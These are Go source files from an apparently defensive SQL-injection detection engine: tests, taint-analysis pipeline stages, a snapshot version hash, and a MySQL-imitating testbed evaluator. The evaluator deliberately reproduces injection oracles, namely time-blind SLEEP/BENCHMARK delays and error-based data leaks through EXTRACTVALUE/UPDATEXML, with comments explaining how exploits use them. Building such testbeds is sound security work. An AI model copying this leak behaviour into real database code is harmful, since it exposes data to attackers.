		t.Fatalf("PTI reasons %v, want a panic reason", v.PTI.Reasons)
	}
	if v.NTI.Attack {
		t.Fatal("the stage after the panicking one did not run or misreported")
	}
	if got := e.Collector().Snapshot().PanicsRecovered; got != 1 {
		t.Fatalf("PanicsRecovered = %d, want 1", got)
	}
	// Even though the sampler skipped this check, the panic forced a span
	// into the notable ring, stack included.
	d := tr.Dump()
	if len(d.Notable) != 1 {
		t.Fatalf("notable traces = %d, want 1", len(d.Notable))
	}
	if p := d.Notable[0].Panic; !strings.Contains(p, "injected fault") || !strings.Contains(p, "containment_test.go") {
		t.Fatalf("notable span panic detail missing message or stack:\n%s", p)
	}
}

func TestPanicFailOpen(t *testing.T) {
	e := New(&Snapshot{Analyzers: []Analyzer{panicStage(core.AnalyzerPTI), okStage(core.AnalyzerNTI)}},
		WithFailureMode(FailOpen))
	v, err := e.Check(context.Background(), Request{Query: "SELECT 1"})
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	if v.Attack {
		t.Fatalf("fail-open panic verdict = %+v, want clean", v)
	}
	if got := e.Collector().Snapshot().PanicsRecovered; got != 1 {
		t.Fatalf("PanicsRecovered = %d, want 1", got)
	}
}

func TestPanicDoesNotPoisonStatePool(t *testing.T) {
	// After a contained panic, subsequent checks run normally — the pooled
	// State must not carry stale data out of the failed check.
	e := New(&Snapshot{Analyzers: []Analyzer{okStage(core.AnalyzerPTI)}})
	bad := New(&Snapshot{Analyzers: []Analyzer{panicStage(core.AnalyzerPTI)}}, WithFailureMode(FailOpen))
	for i := 0; i < 100; i++ {
		if _, err := bad.Check(context.Background(), Request{Query: "x"}); err != nil {
			t.Fatalf("bad engine: %v", err)
		}
		v, err := e.Check(context.Background(), Request{Query: "SELECT 1"})
		if err != nil || v.Attack {
			t.Fatalf("good engine after panic: v=%+v err=%v", v, err)
		}
	}
}

func TestOverBudgetStageFailClosed(t *testing.T) {
	tr := trace.New(trace.Config{SampleEvery: 1 << 30})
	budgetStage := Func{StageName: core.AnalyzerNTI, Fn: func(context.Context, Request, *State) (core.Result, error) {
		return core.Result{}, fmt.Errorf("nti: too much: %w", core.ErrOverBudget)
	}}
	e := New(&Snapshot{Analyzers: []Analyzer{okStage(core.AnalyzerPTI), budgetStage}}, WithTracer(tr))
	v, err := e.Check(context.Background(), Request{Query: "SELECT 1"})
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	if !v.Attack || !v.NTI.Attack {
		t.Fatalf("fail-closed over-budget verdict = %+v, want NTI attack", v)
	}
	snap := e.Collector().Snapshot()
	if snap.OverBudgetChecks != 1 || snap.PanicsRecovered != 0 {
		t.Fatalf("counters = %+v, want 1 over-budget and 0 panics", snap)
	}
	d := tr.Dump()
	if len(d.Notable) != 1 || !strings.Contains(d.Notable[0].OverBudget, "too much") {
		t.Fatalf("notable = %+v, want over-budget span", d.Notable)
	}
}

func TestOverBudgetStageFailOpen(t *testing.T) {
	budgetStage := Func{StageName: core.AnalyzerNTI, Fn: func(context.Context, Request, *State) (core.Result, error) {
		return core.Result{}, fmt.Errorf("nti: too much: %w", core.ErrOverBudget)
	}}
	e := New(&Snapshot{Analyzers: []Analyzer{budgetStage}}, WithFailureMode(FailOpen))
	v, err := e.Check(context.Background(), Request{Query: "SELECT 1"})
	if err != nil || v.Attack {
		t.Fatalf("fail-open over-budget: v=%+v err=%v", v, err)
	}
}

func TestLimitsQueryBytes(t *testing.T) {
	ran := false
	probe := Func{StageName: core.AnalyzerPTI, Fn: func(context.Context, Request, *State) (core.Result, error) {
		ran = true
		return core.Result{Analyzer: core.AnalyzerPTI}, nil
	}}
	e := New(&Snapshot{Analyzers: []Analyzer{probe}},
		WithLimits(Limits{MaxQueryBytes: 1 << 20}))
	hostile := "SELECT '" + strings.Repeat("A", 4<<20) + "'" // the 4 MB input
	v, err := e.Check(context.Background(), Request{Query: hostile})
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	if ran {
		t.Fatal("stage ran despite the query blowing the byte limit")
	}
	if !v.Attack {
		t.Fatalf("fail-closed over-limit verdict = %+v, want attack", v)
	}
	if e.Collector().Snapshot().OverBudgetChecks != 1 {
		t.Fatal("over-limit check not counted as over budget")
	}
	// A normal query still goes through the stage.
	if _, err := e.Check(context.Background(), Request{Query: "SELECT 1"}); err != nil || !ran {
		t.Fatalf("normal check after over-limit: ran=%v err=%v", ran, err)
	}
}

func TestLimitsInputBytes(t *testing.T) {
	e := New(&Snapshot{Analyzers: []Analyzer{okStage(core.AnalyzerPTI)}},
		WithLimits(Limits{MaxInputBytes: 1024}), WithFailureMode(FailOpen))
	v, err := e.Check(context.Background(), Request{
		Query:  "SELECT 1",
		Inputs: []nti.Input{{Source: "post", Name: "blob", Value: strings.Repeat("x", 4096)}},
	})
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	if v.Attack {
		t.Fatalf("fail-open over-limit verdict = %+v, want clean", v)
	}
	if e.Collector().Snapshot().OverBudgetChecks != 1 {
		t.Fatal("over-limit inputs not counted as over budget")
	}
}

func TestContextErrorStillPropagates(t *testing.T) {
	stage := Func{StageName: core.AnalyzerPTI, Fn: func(ctx context.Context, _ Request, _ *State) (core.Result, error) {
		return core.Result{}, ctx.Err()
	}}
	e := New(&Snapshot{Analyzers: []Analyzer{stage}})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := e.Check(ctx, Request{Query: "SELECT 1"})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled — cancellation must not be contained", err)
	}
	if snap := e.Collector().Snapshot(); snap.Checks != 0 {
		t.Fatalf("canceled check recorded a verdict: %+v", snap)
	}
}

func TestPanicContainmentConcurrent(t *testing.T) {
	// Alternate panicking and clean checks from many goroutines under
	// -race: the containment path must be as concurrency-safe as the
	// normal one.
	flaky := Func{StageName: core.AnalyzerPTI, Fn: func(_ context.Context, req Request, _ *State) (core.Result, error) {
		if strings.HasPrefix(req.Query, "boom") {
			panic("concurrent fault")
		}
		return core.Result{Analyzer: core.AnalyzerPTI}, nil
	}}
	e := New(&Snapshot{Analyzers: []Analyzer{flaky}}, WithTracer(trace.New(trace.Config{SampleEvery: 4})))
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				q := "SELECT 1"
				if (g+i)%3 == 0 {
					q = "boom"
				}
				v, err := e.Check(context.Background(), Request{Query: q})
				if err != nil {
					t.Errorf("Check: %v", err)
					return
				}
				if (q == "boom") != v.Attack {
					t.Errorf("query %q: attack=%v", q, v.Attack)
					return
				}
			}
		}(g)
	}
	wg.Wait()
	snap := e.Collector().Snapshot()
	if snap.PanicsRecovered == 0 {
		t.Fatal("no panics recovered")
	}
	if snap.Checks != 8*200 {
		t.Fatalf("Checks = %d, want %d", snap.Checks, 8*200)
	}
}
