package engine

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"sort"

	"joza/internal/fragments"
	"joza/internal/profile"
	"joza/internal/sqltoken"
)

// versionHeader namespaces the snapshot-version hash so a future change to
// the hashed layout produces versions that cannot collide with today's.
const versionHeader = "joza-snapshot-v1"

// VersionLen is the length of a snapshot version string: the leading hex
// of a SHA-256 over the snapshot's analysis inputs. 16 hex characters (64
// bits) make accidental collisions between policy generations negligible
// while keeping the version readable in logs, metrics labels and wire
// frames.
const VersionLen = 16

// ComputeVersion derives the content-addressed version of an analysis
// snapshot: a stable hash over everything that changes what the pipeline
// decides — the trusted fragment set, the query-skeleton profile store,
// the SQL dialect, and the pre-analysis limits (passed as an opaque tag by
// the owner, since limit knobs differ per front door).
//
// The hash is order-insensitive over fragments (two sets holding the same
// texts version identically regardless of extraction order) and treats a
// nil set or store as empty. Every shard of a fleet must hash the same
// inputs to get the same version: a fragment-sliced fleet (jozad -shard
// i/n) hashes the whole unsliced corpus, so all slices of one generation
// share one fleet version.
func ComputeVersion(set *fragments.Set, profiles *profile.Store, d sqltoken.Dialect, limitsTag string) string {
	h := sha256.New()
	var n [8]byte
	write := func(b []byte) {
		binary.LittleEndian.PutUint64(n[:], uint64(len(b)))
		h.Write(n[:])
		h.Write(b)
	}
	write([]byte(versionHeader))
	write([]byte(d.String()))
	write([]byte(limitsTag))
	if set != nil {
		frags := set.Fragments()
		sort.Strings(frags)
		binary.LittleEndian.PutUint64(n[:], uint64(len(frags)))
		h.Write(n[:])
		for _, f := range frags {
			write([]byte(f))
		}
	} else {
		write(nil)
	}
	if profiles != nil {
		// Store serialization is versioned and bit-identical for equal
		// content, so hashing the bytes is hashing the trained profile.
		write(profiles.Bytes())
	} else {
		write(nil)
	}
	return hex.EncodeToString(h.Sum(nil))[:VersionLen]
}
