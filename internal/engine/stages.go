package engine

import (
	"context"

	"joza/internal/core"
	"joza/internal/nti"
	"joza/internal/pti"
)

// PTIStage runs cached positive taint inference. It publishes the lex it
// produces (on cache misses) so a following NTI stage reuses the token
// stream instead of lexing again; cache hits publish nothing and the NTI
// stage lexes lazily only if an input actually matches the query.
type PTIStage struct {
	Analyzer *pti.Cached
}

// Name implements Analyzer.
func (s PTIStage) Name() string { return core.AnalyzerPTI }

// Analyze implements Analyzer.
func (s PTIStage) Analyze(ctx context.Context, req Request, st *State) (core.Result, error) {
	res, toks, err := s.Analyzer.AnalyzeLazyCtx(ctx, req.Query, st.Tokens(), st.Span())
	if err != nil {
		return core.Result{}, err
	}
	st.PublishTokens(toks)
	return res, nil
}

// NTIStage runs negative taint inference over the request's inputs,
// reusing the token stream published by an earlier stage (and lexing
// lazily inside the analyzer only when an input matches the query).
type NTIStage struct {
	Analyzer *nti.Analyzer
}

// Name implements Analyzer.
func (s NTIStage) Name() string { return core.AnalyzerNTI }

// Analyze implements Analyzer.
func (s NTIStage) Analyze(ctx context.Context, req Request, st *State) (core.Result, error) {
	if !hasInputValues(req.Inputs) {
		// No non-empty inputs: nothing can be negatively tainted, and
		// skipping the analyzer keeps the warm no-input path allocation
		// free.
		return core.Result{Analyzer: core.AnalyzerNTI}, nil
	}
	return s.Analyzer.AnalyzeCtx(ctx, req.Query, st.Tokens(), req.Inputs, st.Span())
}

// hasInputValues reports whether any captured input carries a non-empty
// value.
func hasInputValues(inputs []nti.Input) bool {
	for _, in := range inputs {
		if in.Value != "" {
			return true
		}
	}
	return false
}

// Func adapts a plain function into a pipeline stage, for baselines and
// tests.
type Func struct {
	// StageName slots the result into the Verdict (core.AnalyzerNTI or
	// core.AnalyzerPTI); other names only feed the attack decision.
	StageName string
	Fn        func(ctx context.Context, req Request, st *State) (core.Result, error)
}

// Name implements Analyzer.
func (f Func) Name() string { return f.StageName }

// Analyze implements Analyzer.
func (f Func) Analyze(ctx context.Context, req Request, st *State) (core.Result, error) {
	return f.Fn(ctx, req, st)
}
