package engine

import (
	"context"
	"fmt"
	"time"

	"joza/internal/core"
	"joza/internal/nti"
	"joza/internal/profile"
	"joza/internal/pti"
)

// PTIStage runs cached positive taint inference. It publishes the lex it
// produces (on cache misses) so a following NTI stage reuses the token
// stream instead of lexing again; cache hits publish nothing and the NTI
// stage lexes lazily only if an input actually matches the query.
type PTIStage struct {
	Analyzer *pti.Cached
}

// Name implements Analyzer.
func (s PTIStage) Name() string { return core.AnalyzerPTI }

// Analyze implements Analyzer.
func (s PTIStage) Analyze(ctx context.Context, req Request, st *State) (core.Result, error) {
	res, toks, err := s.Analyzer.AnalyzeLazyCtx(ctx, req.Query, st.Tokens(), st.Span())
	if err != nil {
		return core.Result{}, err
	}
	st.PublishTokens(toks)
	return res, nil
}

// NTIStage runs negative taint inference over the request's inputs,
// reusing the token stream published by an earlier stage (and lexing
// lazily inside the analyzer only when an input matches the query).
type NTIStage struct {
	Analyzer *nti.Analyzer
}

// Name implements Analyzer.
func (s NTIStage) Name() string { return core.AnalyzerNTI }

// Analyze implements Analyzer.
func (s NTIStage) Analyze(ctx context.Context, req Request, st *State) (core.Result, error) {
	if !hasInputValues(req.Inputs) {
		// No non-empty inputs: nothing can be negatively tainted, and
		// skipping the analyzer keeps the warm no-input path allocation
		// free.
		return core.Result{Analyzer: core.AnalyzerNTI}, nil
	}
	return s.Analyzer.AnalyzeCtx(ctx, req.Query, st.Tokens(), req.Inputs, st.Span())
}

// hasInputValues reports whether any captured input carries a non-empty
// value.
func hasInputValues(inputs []nti.Input) bool {
	for _, in := range inputs {
		if in.Value != "" {
			return true
		}
	}
	return false
}

// ProfileStage is the third analyzer: per-call-site query-skeleton
// profiles. In learning mode (Recorder set) it records the skeleton of
// every query a site issues and never votes; in enforcement mode (Store
// set) it flags a query whose skeleton the site never issued during
// training. Requests without a Site skip the stage entirely — call-site
// identity is the profile key, and the stage cannot say anything without
// one.
type ProfileStage struct {
	// Store is the frozen training profile consulted in enforcement.
	Store *profile.Store
	// Recorder, when non-nil, puts the stage in learning mode: skeletons
	// are recorded and the stage always reports clean.
	Recorder *profile.Recorder
	// BlockUnknownSites makes enforcement flag queries from sites with no
	// profile at all. Off by default: a training gap must degrade to "no
	// opinion", not take the application down.
	BlockUnknownSites bool
}

// Name implements Analyzer.
func (s ProfileStage) Name() string { return core.AnalyzerProfile }

// Analyze implements Analyzer.
func (s ProfileStage) Analyze(ctx context.Context, req Request, st *State) (core.Result, error) {
	res := core.Result{Analyzer: core.AnalyzerProfile}
	if req.Site == "" {
		return res, nil
	}
	span := st.Span()
	var start time.Time
	if span != nil {
		start = time.Now()
	}
	if s.Recorder != nil {
		sk := s.Recorder.Record(req.Site, req.Query)
		if span != nil {
			span.ProfileTime(time.Since(start))
			span.SetProfile(req.Site, sk, "learned")
		}
		return res, nil
	}
	// The store records the dialect it was trained under; skeletons are
	// only comparable when computed under the same one (snapshot builders
	// verify the store matches the guard's dialect via ForDialect).
	sk := profile.SkeletonDialect(s.Store.Dialect(), req.Query)
	lookup := s.Store.Lookup(req.Site, sk)
	outcome := "seen"
	switch lookup {
	case profile.SkeletonUnseen:
		outcome = "unseen"
		res.Attack = true
		res.Reasons = []core.Reason{{Detail: fmt.Sprintf(
			"query skeleton never seen from call site %q during training: %s", req.Site, sk)}}
	case profile.SiteUnknown:
		outcome = "site-unknown"
		if s.BlockUnknownSites {
			res.Attack = true
			res.Reasons = []core.Reason{{Detail: fmt.Sprintf(
				"call site %q has no training profile (strict mode)", req.Site)}}
		}
	}
	if span != nil {
		span.ProfileTime(time.Since(start))
		span.SetProfile(req.Site, sk, outcome)
	}
	return res, nil
}

// Func adapts a plain function into a pipeline stage, for baselines and
// tests.
type Func struct {
	// StageName slots the result into the Verdict (core.AnalyzerNTI or
	// core.AnalyzerPTI); other names only feed the attack decision.
	StageName string
	Fn        func(ctx context.Context, req Request, st *State) (core.Result, error)
}

// Name implements Analyzer.
func (f Func) Name() string { return f.StageName }

// Analyze implements Analyzer.
func (f Func) Analyze(ctx context.Context, req Request, st *State) (core.Result, error) {
	return f.Fn(ctx, req, st)
}
