package minidb

import (
	"crypto/md5"
	"crypto/sha1"
	"encoding/hex"
	"strconv"
	"strings"
	"time"

	"joza/internal/sqlparse"
)

// Version is reported by VERSION().
const Version = "5.5.0-minidb"

// evaluator evaluates expressions against a table row, accumulating
// virtual delay from SLEEP/BENCHMARK.
type evaluator struct {
	db    *DB
	query string
	delay time.Duration
}

func (ev *evaluator) errf(msg string) error {
	return &ExecError{Query: ev.query, Msg: msg}
}

func (ev *evaluator) eval(e sqlparse.Expr, t *table, row []Value) (Value, error) {
	switch v := e.(type) {
	case *sqlparse.Literal:
		return ev.evalLiteral(v)
	case *sqlparse.ColumnRef:
		return ev.evalColumn(v, t, row)
	case *sqlparse.BinaryExpr:
		return ev.evalBinary(v, t, row)
	case *sqlparse.UnaryExpr:
		x, err := ev.eval(v.X, t, row)
		if err != nil {
			return nil, err
		}
		switch v.Op {
		case "-":
			if f := toFloat(x); f == float64(int64(f)) {
				return int64(-f), nil
			} else {
				return -f, nil
			}
		case "NOT":
			return boolValue(!truthy(x)), nil
		case "~":
			return int64(^int64(toFloat(x))), nil
		default:
			return nil, ev.errf("unsupported unary operator " + v.Op)
		}
	case *sqlparse.FuncCall:
		return ev.evalFunc(v, t, row)
	case *sqlparse.InExpr:
		x, err := ev.eval(v.X, t, row)
		if err != nil {
			return nil, err
		}
		found := false
		for _, le := range v.List {
			lv, err := ev.eval(le, t, row)
			if err != nil {
				return nil, err
			}
			if x != nil && lv != nil && compareValues(x, lv) == 0 {
				found = true
				break
			}
		}
		return boolValue(found != v.Not), nil
	case *sqlparse.BetweenExpr:
		x, err := ev.eval(v.X, t, row)
		if err != nil {
			return nil, err
		}
		lo, err := ev.eval(v.Lo, t, row)
		if err != nil {
			return nil, err
		}
		hi, err := ev.eval(v.Hi, t, row)
		if err != nil {
			return nil, err
		}
		in := compareValues(x, lo) >= 0 && compareValues(x, hi) <= 0
		return boolValue(in != v.Not), nil
	case *sqlparse.LikeExpr:
		x, err := ev.eval(v.X, t, row)
		if err != nil {
			return nil, err
		}
		pat, err := ev.eval(v.Pattern, t, row)
		if err != nil {
			return nil, err
		}
		m := likeMatch(toString(x), toString(pat))
		return boolValue(m != v.Not), nil
	case *sqlparse.IsNullExpr:
		x, err := ev.eval(v.X, t, row)
		if err != nil {
			return nil, err
		}
		return boolValue((x == nil) != v.Not), nil
	default:
		return nil, ev.errf("unsupported expression")
	}
}

func (ev *evaluator) evalLiteral(l *sqlparse.Literal) (Value, error) {
	switch l.Kind {
	case sqlparse.LitNumber:
		if n, err := strconv.ParseInt(l.Text, 0, 64); err == nil {
			return n, nil
		}
		f, err := strconv.ParseFloat(l.Text, 64)
		if err != nil {
			return nil, ev.errf("bad number " + l.Text)
		}
		return f, nil
	case sqlparse.LitString:
		return l.Str, nil
	case sqlparse.LitNull:
		return nil, nil
	case sqlparse.LitBool:
		return boolValue(l.Bool), nil
	default:
		return nil, ev.errf("bad literal")
	}
}

func (ev *evaluator) evalColumn(c *sqlparse.ColumnRef, t *table, row []Value) (Value, error) {
	if t == nil || row == nil {
		return nil, ev.errf("unknown column: " + c.Name)
	}
	name := strings.ToLower(c.Name)
	if c.Table != "" {
		// Joined pseudo-tables index qualified names; on plain tables fall
		// back to the bare name (single-table queries may still qualify).
		if idx, ok := t.colIdx[strings.ToLower(c.Table)+"."+name]; ok {
			return row[idx], nil
		}
	}
	idx, ok := t.colIdx[name]
	if !ok {
		return nil, ev.errf("unknown column: " + c.Name)
	}
	return row[idx], nil
}

func (ev *evaluator) evalBinary(b *sqlparse.BinaryExpr, t *table, row []Value) (Value, error) {
	// Short-circuit logical operators.
	switch b.Op {
	case "AND":
		l, err := ev.eval(b.L, t, row)
		if err != nil {
			return nil, err
		}
		if !truthy(l) {
			return boolValue(false), nil
		}
		r, err := ev.eval(b.R, t, row)
		if err != nil {
			return nil, err
		}
		return boolValue(truthy(r)), nil
	case "OR":
		l, err := ev.eval(b.L, t, row)
		if err != nil {
			return nil, err
		}
		if truthy(l) {
			return boolValue(true), nil
		}
		r, err := ev.eval(b.R, t, row)
		if err != nil {
			return nil, err
		}
		return boolValue(truthy(r)), nil
	}
	l, err := ev.eval(b.L, t, row)
	if err != nil {
		return nil, err
	}
	r, err := ev.eval(b.R, t, row)
	if err != nil {
		return nil, err
	}
	switch b.Op {
	case "XOR":
		return boolValue(truthy(l) != truthy(r)), nil
	case "=":
		if l == nil || r == nil {
			return nil, nil
		}
		return boolValue(compareValues(l, r) == 0), nil
	case "!=":
		if l == nil || r == nil {
			return nil, nil
		}
		return boolValue(compareValues(l, r) != 0), nil
	case "<":
		return boolValue(compareValues(l, r) < 0), nil
	case "<=":
		return boolValue(compareValues(l, r) <= 0), nil
	case ">":
		return boolValue(compareValues(l, r) > 0), nil
	case ">=":
		return boolValue(compareValues(l, r) >= 0), nil
	case "+", "-", "*", "/", "%", "DIV":
		return arith(b.Op, l, r)
	case "REGEXP":
		// Approximated as case-insensitive substring containment; the
		// testbed exploits only use simple patterns.
		return boolValue(strings.Contains(
			strings.ToLower(toString(l)), strings.ToLower(toString(r)))), nil
	default:
		return nil, ev.errf("unsupported operator " + b.Op)
	}
}

func arith(op string, l, r Value) (Value, error) {
	fl, fr := toFloat(l), toFloat(r)
	var f float64
	switch op {
	case "+":
		f = fl + fr
	case "-":
		f = fl - fr
	case "*":
		f = fl * fr
	case "/":
		if fr == 0 {
			return nil, nil // MySQL: division by zero yields NULL
		}
		f = fl / fr
	case "DIV":
		if fr == 0 {
			return nil, nil
		}
		return int64(fl / fr), nil
	case "%":
		if fr == 0 {
			return nil, nil
		}
		return int64(fl) % int64(fr), nil
	}
	if f == float64(int64(f)) {
		return int64(f), nil
	}
	return f, nil
}

func (ev *evaluator) evalFunc(fc *sqlparse.FuncCall, t *table, row []Value) (Value, error) {
	// IF evaluates lazily: only the taken branch runs, so SLEEP inside the
	// untaken branch of a time-blind probe costs nothing — the oracle
	// double-blind exploits depend on.
	if fc.Name == "IF" {
		if len(fc.Args) != 3 {
			return nil, ev.errf("IF expects 3 arguments")
		}
		cond, err := ev.eval(fc.Args[0], t, row)
		if err != nil {
			return nil, err
		}
		if truthy(cond) {
			return ev.eval(fc.Args[1], t, row)
		}
		return ev.eval(fc.Args[2], t, row)
	}
	args := make([]Value, 0, len(fc.Args))
	for _, a := range fc.Args {
		v, err := ev.eval(a, t, row)
		if err != nil {
			return nil, err
		}
		args = append(args, v)
	}
	need := func(n int) error {
		if len(args) != n {
			return ev.errf(fc.Name + " expects " + strconv.Itoa(n) + " argument(s)")
		}
		return nil
	}
	switch fc.Name {
	case "VERSION":
		return Version, nil
	case "DATABASE", "SCHEMA":
		return ev.db.name, nil
	case "USER", "CURRENT_USER", "SESSION_USER", "SYSTEM_USER", "USERNAME":
		return ev.db.user, nil
	case "CONCAT":
		var sb strings.Builder
		for _, a := range args {
			if a == nil {
				return nil, nil
			}
			sb.WriteString(toString(a))
		}
		return sb.String(), nil
	case "CONCAT_WS":
		if len(args) < 1 {
			return nil, ev.errf("CONCAT_WS expects arguments")
		}
		sep := toString(args[0])
		var parts []string
		for _, a := range args[1:] {
			if a == nil {
				continue
			}
			parts = append(parts, toString(a))
		}
		return strings.Join(parts, sep), nil
	case "CHAR":
		var sb strings.Builder
		for _, a := range args {
			sb.WriteByte(byte(int64(toFloat(a))))
		}
		return sb.String(), nil
	case "ASCII", "ORD":
		if err := need(1); err != nil {
			return nil, err
		}
		s := toString(args[0])
		if len(s) == 0 {
			return int64(0), nil
		}
		return int64(s[0]), nil
	case "LENGTH", "CHAR_LENGTH", "CHARACTER_LENGTH":
		if err := need(1); err != nil {
			return nil, err
		}
		return int64(len(toString(args[0]))), nil
	case "UPPER", "UCASE":
		if err := need(1); err != nil {
			return nil, err
		}
		return strings.ToUpper(toString(args[0])), nil
	case "LOWER", "LCASE":
		if err := need(1); err != nil {
			return nil, err
		}
		return strings.ToLower(toString(args[0])), nil
	case "TRIM":
		if err := need(1); err != nil {
			return nil, err
		}
		return strings.TrimSpace(toString(args[0])), nil
	case "SUBSTRING", "SUBSTR", "MID":
		if len(args) < 2 || len(args) > 3 {
			return nil, ev.errf("SUBSTRING expects 2 or 3 arguments")
		}
		s := toString(args[0])
		start := int(toFloat(args[1]))
		if start < 1 {
			start = 1
		}
		if start > len(s) {
			return "", nil
		}
		out := s[start-1:]
		if len(args) == 3 {
			n := int(toFloat(args[2]))
			if n < len(out) {
				if n < 0 {
					n = 0
				}
				out = out[:n]
			}
		}
		return out, nil
	case "MD5":
		if err := need(1); err != nil {
			return nil, err
		}
		sum := md5.Sum([]byte(toString(args[0])))
		return hex.EncodeToString(sum[:]), nil
	case "SHA", "SHA1":
		if err := need(1); err != nil {
			return nil, err
		}
		sum := sha1.Sum([]byte(toString(args[0])))
		return hex.EncodeToString(sum[:]), nil
	case "HEX":
		if err := need(1); err != nil {
			return nil, err
		}
		return strings.ToUpper(hex.EncodeToString([]byte(toString(args[0])))), nil
	case "UNHEX":
		if err := need(1); err != nil {
			return nil, err
		}
		b, err := hex.DecodeString(toString(args[0]))
		if err != nil {
			return nil, nil
		}
		return string(b), nil
	case "IFNULL":
		if err := need(2); err != nil {
			return nil, err
		}
		if args[0] != nil {
			return args[0], nil
		}
		return args[1], nil
	case "NULLIF":
		if err := need(2); err != nil {
			return nil, err
		}
		if args[0] != nil && args[1] != nil && compareValues(args[0], args[1]) == 0 {
			return nil, nil
		}
		return args[0], nil
	case "COALESCE":
		for _, a := range args {
			if a != nil {
				return a, nil
			}
		}
		return nil, nil
	case "ABS":
		if err := need(1); err != nil {
			return nil, err
		}
		f := toFloat(args[0])
		if f < 0 {
			f = -f
		}
		if f == float64(int64(f)) {
			return int64(f), nil
		}
		return f, nil
	case "FLOOR":
		if err := need(1); err != nil {
			return nil, err
		}
		f := toFloat(args[0])
		n := int64(f)
		if f < 0 && f != float64(n) {
			n--
		}
		return n, nil
	case "ROUND":
		if len(args) == 0 {
			return nil, ev.errf("ROUND expects arguments")
		}
		f := toFloat(args[0])
		if f >= 0 {
			return int64(f + 0.5), nil
		}
		return int64(f - 0.5), nil
	case "SLEEP":
		if err := need(1); err != nil {
			return nil, err
		}
		// Virtual clock: the delay is accumulated, never slept.
		ev.delay += time.Duration(toFloat(args[0]) * float64(time.Second))
		return int64(0), nil
	case "BENCHMARK":
		if err := need(2); err != nil {
			return nil, err
		}
		// Model each iteration as one microsecond of virtual work.
		ev.delay += time.Duration(toFloat(args[0])) * time.Microsecond
		return int64(0), nil
	case "NOW", "SYSDATE", "CURRENT_TIMESTAMP":
		return "2015-06-22 00:00:00", nil
	case "CURDATE", "CURRENT_DATE":
		return "2015-06-22", nil
	case "RAND":
		// Deterministic for reproducibility.
		return 0.5, nil
	case "PI":
		return 3.141592653589793, nil
	case "LAST_INSERT_ID", "CONNECTION_ID", "FOUND_ROWS", "ROW_COUNT":
		return int64(0), nil
	case "LOAD_FILE":
		// Always denied, as on a hardened MySQL.
		return nil, nil
	case "GREATEST", "LEAST":
		if len(args) == 0 {
			return nil, ev.errf(fc.Name + " expects arguments")
		}
		best := args[0]
		for _, a := range args[1:] {
			c := compareValues(a, best)
			if (fc.Name == "GREATEST" && c > 0) || (fc.Name == "LEAST" && c < 0) {
				best = a
			}
		}
		return best, nil
	case "STRCMP":
		if err := need(2); err != nil {
			return nil, err
		}
		return int64(compareValues(args[0], args[1])), nil
	case "REVERSE":
		if err := need(1); err != nil {
			return nil, err
		}
		s := []byte(toString(args[0]))
		for i, j := 0, len(s)-1; i < j; i, j = i+1, j-1 {
			s[i], s[j] = s[j], s[i]
		}
		return string(s), nil
	case "SPACE":
		if err := need(1); err != nil {
			return nil, err
		}
		n := int(toFloat(args[0]))
		if n < 0 || n > 1<<20 {
			n = 0
		}
		return strings.Repeat(" ", n), nil
	case "REPEAT":
		if err := need(2); err != nil {
			return nil, err
		}
		n := int(toFloat(args[1]))
		if n < 0 || n > 1<<16 {
			n = 0
		}
		return strings.Repeat(toString(args[0]), n), nil
	case "INSTR", "LOCATE", "POSITION":
		if err := need(2); err != nil {
			return nil, err
		}
		a, b := toString(args[0]), toString(args[1])
		if fc.Name == "INSTR" {
			return int64(strings.Index(a, b) + 1), nil
		}
		return int64(strings.Index(b, a) + 1), nil
	case "LEFT":
		if err := need(2); err != nil {
			return nil, err
		}
		s := toString(args[0])
		n := int(toFloat(args[1]))
		if n > len(s) {
			n = len(s)
		}
		if n < 0 {
			n = 0
		}
		return s[:n], nil
	case "RIGHT":
		if err := need(2); err != nil {
			return nil, err
		}
		s := toString(args[0])
		n := int(toFloat(args[1]))
		if n > len(s) {
			n = len(s)
		}
		if n < 0 {
			n = 0
		}
		return s[len(s)-n:], nil
	case "REPLACE":
		if err := need(3); err != nil {
			return nil, err
		}
		return strings.ReplaceAll(toString(args[0]), toString(args[1]), toString(args[2])), nil
	case "EXTRACTVALUE", "UPDATEXML":
		// Error-based injection primitives: on malformed XPath (the usual
		// exploitation pattern) MySQL raises an error containing the
		// evaluated argument — reproduce that leak-through-error behaviour.
		if len(args) >= 2 {
			return nil, ev.errf("XPATH syntax error: '" + toString(args[1]) + "'")
		}
		return nil, ev.errf("XPATH syntax error")
	default:
		return nil, ev.errf("unknown function " + fc.Name)
	}
}

// aggregator evaluates select expressions over a row group, computing
// aggregate functions over all rows and other expressions over the first
// row of the group.
type aggregator struct {
	ev   *evaluator
	t    *table
	rows [][]Value
}

func (ag *aggregator) eval(e sqlparse.Expr) (Value, error) {
	switch v := e.(type) {
	case *sqlparse.FuncCall:
		switch v.Name {
		case "COUNT":
			if v.Star {
				return int64(len(ag.rows)), nil
			}
			n := int64(0)
			for _, row := range ag.rows {
				val, err := ag.ev.eval(v.Args[0], ag.t, row)
				if err != nil {
					return nil, err
				}
				if val != nil {
					n++
				}
			}
			return n, nil
		case "SUM", "AVG", "MIN", "MAX":
			if len(v.Args) != 1 {
				return nil, ag.ev.errf(v.Name + " expects 1 argument")
			}
			var vals []Value
			for _, row := range ag.rows {
				val, err := ag.ev.eval(v.Args[0], ag.t, row)
				if err != nil {
					return nil, err
				}
				if val != nil {
					vals = append(vals, val)
				}
			}
			if len(vals) == 0 {
				return nil, nil
			}
			switch v.Name {
			case "SUM", "AVG":
				sum := 0.0
				for _, val := range vals {
					sum += toFloat(val)
				}
				if v.Name == "AVG" {
					return sum / float64(len(vals)), nil
				}
				if sum == float64(int64(sum)) {
					return int64(sum), nil
				}
				return sum, nil
			default:
				best := vals[0]
				for _, val := range vals[1:] {
					c := compareValues(val, best)
					if (v.Name == "MAX" && c > 0) || (v.Name == "MIN" && c < 0) {
						best = val
					}
				}
				return best, nil
			}
		case "GROUP_CONCAT":
			if len(v.Args) != 1 {
				return nil, ag.ev.errf("GROUP_CONCAT expects 1 argument")
			}
			var parts []string
			for _, row := range ag.rows {
